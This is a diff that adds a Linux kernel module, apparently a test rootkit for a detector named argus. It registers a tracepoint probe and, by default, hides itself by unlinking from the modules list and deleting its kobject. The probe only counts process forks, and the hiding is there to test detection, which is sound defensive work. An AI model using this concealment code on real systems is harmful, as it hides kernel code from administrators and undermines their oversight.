@@ -1,0 +1,120 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * hooktp - a test rootkit for argus's Kernel Function Hooked: a probe on a
+ * kernel tracepoint (the way rootkits watch process creation) whose
+ * function is in a module that hides itself.
+ *
+ * insmod hooktp.ko [tp=sched_process_fork] [hide=1]
+ * finds the tracepoint tp (for_each_kernel_tracepoint) and registers a
+ * probe of this module on it, then, with hide=1, unlinks the module from
+ * the modules list and deletes its kobject, as hidekmod does.  With
+ * hide=0 it is an ordinary module with a tracepoint probe, and rmmod
+ * removes it.
+ *
+ * echo 1 >/proc/hooktp unregisters the probe and links a hidden module
+ * back into both lists (not sysfs); it then cannot be unloaded (its sysfs
+ * teardown would find no directory).  For testing only; loaded in a
+ * disposable test guest.
+ */
+#include <linux/kobject.h>
+#include <linux/tracepoint.h>
+#include <linux/module.h>
+#include <linux/proc_fs.h>
+#include <linux/rculist.h>
+
+static char *tp = "sched_process_fork";
+module_param(tp, charp, 0444);
+static int hide = 1;
+module_param(hide, int, 0444);
+static ulong hits;
+
+static struct list_head *modules_head;
+static struct kset *kset;
+static bool hidden, registered;
+
+static struct tracepoint *found;
+
+static void probe(void *data, struct task_struct *parent, struct task_struct *child)
+{
+	hits++;
+}
+
+static void match(struct tracepoint *t, void *priv)
+{
+	if (!strcmp(t->name, tp))
+		found = t;
+}
+
+static struct list_head *find_head(void)
+{
+	struct list_head *p;
+	int n = 0;
+
+	for (p = THIS_MODULE->list.next; p != &THIS_MODULE->list && n < 100000; p = p->next, n++)
+		if ((unsigned long)p < MODULES_VADDR || (unsigned long)p >= MODULES_END)
+			return p;
+	return NULL;
+}
+
+static ssize_t ctl_write(struct file *f, const char __user *buf, size_t len, loff_t *off)
+{
+	if (registered) {
+		tracepoint_probe_unregister(found, probe, NULL);
+		tracepoint_synchronize_unregister();
+	}
+	registered = false;
+	if (hidden) {
+		list_add_tail_rcu(&THIS_MODULE->list, modules_head);
+		spin_lock(&kset->list_lock);
+		list_add_tail(&THIS_MODULE->mkobj.kobj.entry, &kset->list);
+		spin_unlock(&kset->list_lock);
+		hidden = false;
+	}
+	pr_info("hooktp: probe removed, module listed\n");
+	return len;
+}
+
+static const struct proc_ops ctl_ops = {
+	.proc_write = ctl_write,
+};
+
+static int __init hooktp_init(void)
+{
+	int ret;
+
+	for_each_kernel_tracepoint(match, NULL);
+	if (!found)
+		return -ENOENT;
+	ret = tracepoint_probe_register(found, probe, NULL);
+	if (ret)
+		return ret;
+	registered = true;
+	pr_info("hooktp: probe %px on tracepoint %s at %px\n", probe, tp, found);
+	if (!hide)
+		return 0;
+	modules_head = find_head();
+	kset = THIS_MODULE->mkobj.kobj.kset;
+	if (!modules_head || !kset || !proc_create("hooktp", 0200, NULL, &ctl_ops)) {
+		tracepoint_probe_unregister(found, probe, NULL);
+		tracepoint_synchronize_unregister();
+		return -ENOENT;
+	}
+	kset_get(kset);
+	list_del(&THIS_MODULE->list);
+	kobject_del(&THIS_MODULE->mkobj.kobj);
+	hidden = true;
+	return 0;
+}
+
+static void __exit hooktp_exit(void)
+{
+	if (registered) {
+		tracepoint_probe_unregister(found, probe, NULL);
+		tracepoint_synchronize_unregister();
+	}
+}
+
+module_init(hooktp_init);
+module_exit(hooktp_exit);
+MODULE_LICENSE("GPL");
+MODULE_DESCRIPTION("argus test rootkit: a tracepoint probe in a hidden module");
